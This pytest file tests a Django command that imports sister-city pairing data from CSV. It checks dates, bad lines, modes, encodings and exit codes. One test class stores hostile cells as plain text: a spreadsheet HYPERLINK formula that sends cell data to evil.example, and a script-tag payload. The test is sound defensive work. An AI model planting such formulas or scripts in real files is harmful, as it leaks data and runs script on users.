"""manage.py import_pairings: the real status table, date styles, bad lines, modes, idempotence."""

import datetime
import io
import re

import pytest
from django.core.management import CommandError, ManagementUtility, call_command

from campaigns import importing
from campaigns.models import Pairing
from officials.models import KOREA, Place

REAL_FILE = importing.STATUS_TABLE_FILE
HEADER = ",".join(importing.COLUMNS)
GOOD_ROW = "1,Seoul,,United Kingdom,London,2015-12-04,Friendship,2017-07-18,2017-08-01,"


def run(path, *options):
    """``(stdout, stderr, CommandError or None)`` of one run of the command."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("import_pairings", str(path), *options, stdout=out, stderr=err)
    except CommandError as error:
        return out.getvalue(), err.getvalue(), error
    return out.getvalue(), err.getvalue(), None


@pytest.fixture
def write_csv(tmp_path):
    """Write CSV lines (header first by default) and return the path."""

    def write(*lines, header=True, name="pairings.csv"):
        path = tmp_path / name
        path.write_text("\n".join(([HEADER] if header else []) + list(lines)) + "\n", "utf-8")
        return path

    return write


def pairing_with(partner):
    return Pairing.objects.select_related("korean_place__parent", "foreign_place").get(
        foreign_place__name=partner
    )


@pytest.mark.django_db
class TestRealFile:
    def test_it_creates_the_71_pairings(self):
        out, err, error = run(REAL_FILE)

        assert error is None, err
        assert "71 created, 0 updated, 0 unchanged, 0 errors" in out
        assert Pairing.objects.count() == 71

    def test_it_imports_both_rows_numbered_9(self):
        run(REAL_FILE)

        nines = Pairing.objects.filter(number=9).select_related("korean_place", "foreign_place")
        assert sorted((p.korean_place.name, p.foreign_place.name) for p in nines) == [
            ("Daegu", "Milan"),
            ("Seongnam", "Bologna"),
        ]

    def test_it_splits_the_korean_named_partner_of_row_65(self):
        run(REAL_FILE)

        pairing = Pairing.objects.get(number=65)
        assert pairing.foreign_place.name == "Willoughby"
        assert pairing.foreign_place.name_ko == "뉴사우스웨일주 윌로비시"
        assert pairing.foreign_place.country == "Australia"
        assert pairing.korean_place.name == "Gangdong-gu"
        assert pairing.korean_place.parent.name == "Seoul"

    def test_it_builds_the_korean_places_with_korean_names(self):
        run(REAL_FILE)

        gangseo = Place.objects.get(name="Gangseo-gu")
        assert gangseo.kind == Place.Kind.LOCALITY
        assert gangseo.name_ko == "강서구"
        assert gangseo.parent.name_ko == "서울특별시"
        assert Place.objects.get(name="Gyeonggi-do", country=KOREA).name_ko == "경기도"
        assert not Place.objects.korean().filter(name_ko="").exists()

    def test_it_pairs_a_province_itself_when_there_is_no_locality(self):
        run(REAL_FILE)

        pairing = pairing_with("Rome")
        assert pairing.korean_place.kind == Place.Kind.PROVINCE
        assert pairing.korean_place.name == "Seoul"

    @pytest.mark.parametrize(
        ("partner", "status"),
        [
            ("London", Pairing.Status.RESPONSE_RECEIVED),
            ("Nottingham", Pairing.Status.CAMPAIGNING),
            ("Rome", Pairing.Status.NO_CAMPAIGN),
        ],
    )
    def test_it_sets_the_status_from_the_dates(self, partner, status):
        run(REAL_FILE)

        assert pairing_with(partner).status == status

    def test_it_reads_the_relationship_and_dates(self):
        run(REAL_FILE)

        nottingham = pairing_with("Nottingham")
        assert nottingham.relationship == Pairing.Relationship.FRIENDSHIP
        assert nottingham.agreement_date == datetime.date(2011, 8, 25)
        assert nottingham.campaign_date == datetime.date(2017, 7, 19)
        assert pairing_with("Rome").relationship == Pairing.Relationship.SISTER

    def test_it_keeps_the_response_note(self):
        run(REAL_FILE)

        assert pairing_with("Moncton, New Brunswick").response_note == "Response from Yeosu"


@pytest.mark.django_db
class TestIdempotence:
    def test_it_reports_a_second_run_as_unchanged(self):
        run(REAL_FILE)
        history = Pairing.history.count()

        out, _err, error = run(REAL_FILE)

        assert error is None
        assert "0 created, 0 updated, 71 unchanged, 0 errors" in out
        assert Pairing.objects.count() == 71
        assert Pairing.history.count() == history

    def test_it_counts_a_changed_row_as_updated_and_updates_the_status(self, tmp_path):
        run(REAL_FILE)
        text = REAL_FILE.read_text("utf-8").replace(
            "2,Seoul,Gangseo-gu,United Kingdom,Nottingham,2011-08-25,Friendship,2017-07-19,,",
            "2,Seoul,Gangseo-gu,United Kingdom,Nottingham,2011-08-25,Friendship,2017-07-19,"
            "2017-09-01,Replied",
        )
        changed = tmp_path / "changed.csv"
        changed.write_text(text, "utf-8")

        out, _err, error = run(changed)

        assert error is None
        assert "0 created, 1 updated, 70 unchanged" in out
        nottingham = pairing_with("Nottingham")
        assert nottingham.status == Pairing.Status.RESPONSE_RECEIVED
        assert nottingham.response_date == datetime.date(2017, 9, 1)
        assert nottingham.history.first().history_change_reason == importing.CHANGE_REASON

    def test_it_keeps_a_recorded_victory(self, write_csv):
        run(write_csv(GOOD_ROW))
        Pairing.objects.update(status=Pairing.Status.VICTORY)

        out, _err, _error = run(write_csv(GOOD_ROW.replace("Friendship", "Sister")))

        assert "1 updated" in out
        assert Pairing.objects.get().status == Pairing.Status.VICTORY

    def test_it_matches_existing_places_whatever_the_letter_case(self, write_csv):
        run(write_csv(GOOD_ROW))

        out, _err, _error = run(write_csv(GOOD_ROW.replace("Seoul", "SEOUL").lower()))

        assert "0 created, 0 updated, 1 unchanged" in out
        assert Place.objects.filter(name__iexact="seoul").count() == 1


@pytest.mark.django_db
class TestDateStyles:
    def test_it_reads_us_style_dates_as_the_same_dates(self, tmp_path):
        run(REAL_FILE)
        us_style = re.sub(
            r"(\d{4})-(\d{2})-(\d{2})",
            lambda m: f"{int(m[2])}/{int(m[3])}/{m[1]}",
            REAL_FILE.read_text("utf-8"),
        )
        assert "7/18/2017" in us_style
        path = tmp_path / "us.csv"
        path.write_text(us_style, "utf-8")

        out, _err, error = run(path)

        assert error is None
        assert "0 created, 0 updated, 71 unchanged" in out

    @pytest.mark.parametrize(
        ("cell", "date"),
        [
            ("2011-08-25", datetime.date(2011, 8, 25)),
            ("2011-8-25", datetime.date(2011, 8, 25)),
            ("7/18/2017", datetime.date(2017, 7, 18)),
            ("07/08/2017", datetime.date(2017, 7, 8)),
            (" 2017-07-18 ", datetime.date(2017, 7, 18)),
            (datetime.datetime(2017, 7, 18, 0, 0), datetime.date(2017, 7, 18)),
            ("", None),
        ],
    )
    def test_it_parses(self, cell, date):
        assert importing.parse_date(cell) == date

    @pytest.mark.parametrize(
        "cell", ["2017-02-30", "18/7/2017", "2017/07/18", "July 18, 2017", "=TODAY()"]
    )
    def test_it_refuses(self, cell):
        with pytest.raises(ValueError):
            importing.parse_date(cell)


class TestBilingualNames:
    @pytest.mark.parametrize(
        ("cell", "names"),
        [
            ("뉴사우스웨일주 윌로비시(Willoughby/)", ("Willoughby", "뉴사우스웨일주 윌로비시")),
            ("Willoughby (윌로비시)", ("Willoughby", "윌로비시")),
            ("윌로비시", ("윌로비시", "윌로비시")),
            ("Dartford (County of Kent)", ("Dartford (County of Kent)", "")),
            (
                "노스밴쿠버(District of North Vancouver (North Vancouver), British Columbia)",
                ("District of North Vancouver (North Vancouver), British Columbia", "노스밴쿠버"),
            ),
        ],
    )
    def test_it_splits(self, cell, names):
        assert importing.split_bilingual(cell) == names


@pytest.mark.django_db
class TestBadLines:
    @pytest.mark.parametrize(
        ("row", "reason"),
        [
            (
                "2,Seoul,,Italy,Rome,2000-02-30,Sister,,,",
                "agreement_date “2000-02-30” is not a date",
            ),
            ("2,Seoul,,Italy,Rome,,Sister,,,", "agreement_date is missing"),
            ("2,Seoul,,Italy,Rome,2000-03-18,Sister,yesterday,,", "campaign_date “yesterday”"),
            ("2,Seoul,,Italy,Rome,2000-03-18,Cousin,,,", "unknown relationship “Cousin”"),
            ("2,Seoul,,Italy,Rome,2000-03-18,,,,", "unknown relationship “”"),
            ("2,,Jung-gu,Italy,Rome,2000-03-18,Sister,,,", "korean_province is missing"),
            ("2,Seoul,,Italy,,2000-03-18,Sister,,,", "partner_city is missing"),
            ("2,Seoul,,,Rome,2000-03-18,Sister,,,", "country is missing"),
            (
                "2,Seoul,,South Korea,Busan,2000-03-18,Sister,,,",
                "country: the partner city must be outside South Korea",
            ),
            (
                "2,Seoul,,Italy,Rome,2000-03-18,Sister,2016-06-07,2016-06-01,",
                "response_date is before campaign_date",
            ),
            (
                "2,Seoul,,Italy,Rome,2000-03-18,Sister,,2016-06-01,",
                "response_date without a campaign_date",
            ),
            (f"2,Seoul,,Italy,{'R' * 201},2000-03-18,Sister,,,", "partner_city is longer than 200"),
            (
                f"2,{'S' * 201},,Italy,Rome,2000-03-18,Sister,,,",
                "korean_province is longer than 200",
            ),
            (f"2,Seoul,,{'I' * 101},Rome,2000-03-18,Sister,,,", "country is longer than 100"),
            (
                f"2,Seoul,,Italy,Rome,2000-03-18,Sister,2016-06-07,,{'x' * 501}",
                "response_note is longer than 500",
            ),
            (
                "2,Seoul,,Italy,Ro\x00me,2000-03-18,Sister,,,",
                "partner_city contains a NUL character",
            ),
            (f"2,Seoul,,Italy,{'R' * 250}(로마),2000-03-18,Sister,,,", "partner_city is longer"),
            (
                f"2,Seoul,,Italy,Rome,2000-03-18,Sister,,,{'x' * 200_000}",
                "unreadable CSV: field larger",
            ),
            ("two,Seoul,,Italy,Rome,2000-03-18,Sister,,,", "no “two” is not a whole number"),
            ("99999999999,Seoul,,Italy,Rome,2000-03-18,Sister,,,", "no “99999999999” is not"),
            ("2,Seoul,,Italy,Rome,2000-03-18,Sister,,", "9 fields, the header has 10"),
            ("2,Seoul,,Italy,Rome,2000-03-18,Sister,,,,", "11 fields, the header has 10"),
        ],
    )
    def test_it_reports_the_line_and_reason_and_imports_the_rest(self, write_csv, row, reason):
        out, err, error = run(write_csv(GOOD_ROW, row))

        assert f"line 3: {reason}" in err
        assert "1 created, 0 updated, 0 unchanged, 1 errors" in out
        assert isinstance(error, CommandError)
        assert Pairing.objects.get().foreign_place.name == "London"

    def test_it_lists_every_reason_of_a_line(self, write_csv):
        _out, err, _error = run(write_csv("2,,,Italy,Rome,2000-02-30,Cousin,,,"))

        assert "korean_province is missing" in err
        assert "not a date" in err
        assert "unknown relationship" in err

    def test_it_reports_the_same_pair_twice(self, write_csv):
        _out, err, error = run(
            write_csv(GOOD_ROW, "9,seoul,,United Kingdom,LONDON,2015-12-04,Sister,,,")
        )

        assert "line 3: same pairing as line 2" in err
        assert error is not None
        assert Pairing.objects.get().relationship == Pairing.Relationship.FRIENDSHIP

    def test_it_counts_file_lines_across_blank_lines_and_multiline_cells(self, write_csv):
        path = write_csv(
            GOOD_ROW + '"Two\nlines"',
            "",
            "2,Seoul,,Italy,Rome,2000-03-18,Cousin,,,",
        )

        _out, err, _error = run(path)

        assert err.strip() == "line 5: unknown relationship “Cousin” (write Sister or Friendship)"

    @pytest.mark.parametrize(
        ("header", "reason"),
        [
            (HEADER.replace(",response_note", ""), "missing column(s): response_note"),
            (HEADER + ",comment", "unknown column(s): comment"),
            (HEADER.replace("country", "nation"), "missing column(s): country"),
            (HEADER + ",no", "column(s) given twice: no"),
        ],
    )
    def test_it_refuses_a_wrong_header_and_writes_nothing(self, write_csv, header, reason):
        path = write_csv(header, GOOD_ROW + ",", header=False)

        _out, err, error = run(path)

        assert f"line 1: {reason}" in err
        assert error is not None
        assert not Pairing.objects.exists()

    def test_it_accepts_the_header_in_any_case_and_order(self, write_csv):
        header = "Country,NO,korean_province,korean_locality,partner_city,agreement_date,"
        header += "relationship,campaign_date,response_date,response_note"

        _out, err, error = run(
            write_csv(header, "Italy,7,Seoul,,Rome,2000-03-18,Sister,,,", header=False)
        )

        assert error is None, err
        assert Pairing.objects.get().number == 7

    def test_it_reports_an_empty_file(self, tmp_path):
        path = tmp_path / "empty.csv"
        path.write_text("", "utf-8")

        _out, err, error = run(path)

        assert "line 1: the file is empty" in err
        assert error is not None


@pytest.mark.django_db
class TestModes:
    def test_strict_writes_nothing_when_a_line_is_bad(self, write_csv):
        out, err, error = run(
            write_csv(GOOD_ROW, "2,Seoul,,Italy,Rome,2000-03-18,Cousin,,,"), "--strict"
        )

        assert "line 3: unknown relationship" in err
        assert "nothing was written" in out
        assert error is not None
        assert not Pairing.objects.exists()
        assert not Place.objects.exists()

    def test_strict_writes_a_good_file(self, write_csv):
        _out, _err, error = run(write_csv(GOOD_ROW), "--strict")

        assert error is None
        assert Pairing.objects.count() == 1

    def test_dry_run_counts_but_writes_nothing(self):
        out, _err, error = run(REAL_FILE, "--dry-run")

        assert error is None
        assert "71 created" in out
        assert "Dry run: nothing was written." in out
        assert not Pairing.objects.exists()
        assert not Place.objects.exists()

    def test_dry_run_does_not_update(self, write_csv):
        run(write_csv(GOOD_ROW))

        out, _err, _error = run(write_csv(GOOD_ROW.replace("2017-08-01", "")), "--dry-run")

        assert "1 updated" in out
        assert Pairing.objects.get().status == Pairing.Status.RESPONSE_RECEIVED


@pytest.mark.django_db
class TestHostileCells:
    def test_it_stores_formulas_as_plain_text(self, write_csv):
        partner = '=HYPERLINK("http://evil.example/?"&A1,"London")'
        note = "=1+2"
        quoted = partner.replace('"', '""')
        row = f'1,Seoul,,United Kingdom,"{quoted}",2015-12-04,Sister,2017-07-18,2017-08-01,{note}'

        _out, err, error = run(write_csv(row))

        assert error is None, err
        pairing = Pairing.objects.get()
        assert pairing.foreign_place.name == partner
        assert pairing.response_note == note

    def test_it_stores_markup_as_text(self, write_csv):
        row = "1,Seoul,,United Kingdom,<script>alert(1)</script>,2015-12-04,Sister,,,<b>hi</b>"

        run(write_csv(row))

        pairing = Pairing.objects.get()
        assert pairing.foreign_place.name == "<script>alert(1)</script>"
        assert pairing.response_note == "<b>hi</b>"


@pytest.mark.django_db
class TestFiles:
    def test_it_accepts_a_utf8_byte_order_mark(self, tmp_path):
        path = tmp_path / "bom.csv"
        path.write_bytes(("\ufeff" + HEADER + "\n" + GOOD_ROW + "\n").encode("utf-8"))

        _out, err, error = run(path)

        assert error is None, err
        assert Pairing.objects.count() == 1

    def test_it_accepts_windows_line_ends(self, tmp_path):
        path = tmp_path / "crlf.csv"
        path.write_bytes((HEADER + "\r\n" + GOOD_ROW + "\r\n").encode("utf-8"))

        _out, err, error = run(path)

        assert error is None, err
        assert Pairing.objects.get().response_note == ""

    def test_it_refuses_a_file_that_is_not_utf8(self, tmp_path):
        path = tmp_path / "latin1.csv"
        path.write_bytes(
            (HEADER + "\n" + GOOD_ROW.replace("London", "Londôn") + "\n").encode("latin-1")
        )

        _out, _err, error = run(path)

        assert "is not UTF-8 (line 2)" in str(error)
        assert not Pairing.objects.exists()

    def test_it_refuses_a_missing_file(self, tmp_path):
        _out, _err, error = run(tmp_path / "nowhere.csv")

        assert "cannot read" in str(error)


@pytest.mark.django_db
class TestExitCodes:
    def manage(self, *args):
        try:
            ManagementUtility(["manage.py", "import_pairings", *map(str, args)]).execute()
        except SystemExit as exit:
            return exit.code
        return 0

    def test_it_exits_0_on_a_good_file(self, capsys):
        assert self.manage(REAL_FILE) == 0

    def test_it_exits_1_on_a_bad_line(self, write_csv, capsys):
        assert self.manage(write_csv("2,Seoul,,Italy,Rome,2000-03-18,Cousin,,,")) == 1
        assert "line 2: unknown relationship" in capsys.readouterr().err

    def test_it_exits_1_on_a_missing_file(self, tmp_path, capsys):
        assert self.manage(tmp_path / "nowhere.csv") == 1
